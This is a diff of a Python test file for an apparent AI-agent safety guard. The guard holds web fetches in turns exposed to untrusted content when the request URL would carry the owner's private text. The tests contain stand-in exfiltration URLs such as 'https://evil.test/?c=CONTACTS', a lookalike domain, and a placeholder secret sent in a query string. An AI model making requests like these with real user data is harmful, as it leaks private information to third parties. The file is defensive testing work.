@@ -72,7 +72,7 @@ def test_anything_else_is_not(command: str) -> None:
     assert not read_only(command)
 
 
-def test_a_request_to_a_host_the_owner_did_not_name_is_held_in_a_tainted_turn() -> None:
+def test_a_request_is_held_in_a_tainted_turn_by_what_it_carries_not_by_its_host() -> None:
     assert destination("web_fetch", {"url": "https://Evil.test:8443/x?y=1"}) == "evil.test"
     assert destination("browser_open", {"url": "file:///home/agent/a.html"}) == ""
     assert destination("shell", {"command": "ls"}) is None
@@ -80,12 +80,20 @@ def test_a_request_to_a_host_the_owner_did_not_name_is_held_in_a_tainted_turn() 
     assert from_owner("www.docs.example.org", {"docs.example.org"})
     assert not from_owner("docs.example.org.evil.test", {"docs.example.org"})
 
-    evil = hold_for("web_fetch", "read", {"url": "https://evil.test/?c=bob@x.org"}, TAINTED)
-    assert "evil.test, which the owner did not name" in evil.reason
+    # The page's own link carries only what the page wrote: it goes, wherever it points.
+    link = hold_for("web_fetch", "read", {"url": "https://evil.test/?c=CONTACTS"}, TAINTED)
+    assert link.reason == ""
+    # The owner's words in the query: held, even on the host the owner named.
+    private = [Entry(kind="user", text="My locker code is Walrus-2291-Tango", trust="owner")]
+    url = "https://docs.example.org/more?n=Walrus-2291-Tango"
+    carrying = hold_for("web_fetch", "read", {"url": url}, [*private, *TAINTED])
+    assert f"the request to {url} would carry 'walrus2291tango' from your messages" in (
+        carrying.reason
+    )
     named = hold_for("web_fetch", "read", {"url": "https://docs.example.org/more"}, TAINTED)
     assert named.reason == ""
     # In a clean turn a fetch goes where the agent likes (SSRF rules still apply).
-    assert hold_for("web_fetch", "read", {"url": "https://evil.test/"}, CLEAN).reason == ""
+    assert hold_for("web_fetch", "read", {"url": url}, [*private, OWNER]).reason == ""
 
 
 def test_shell_browser_desktop_and_file_actions_that_cannot_be_undone_are_held() -> None:
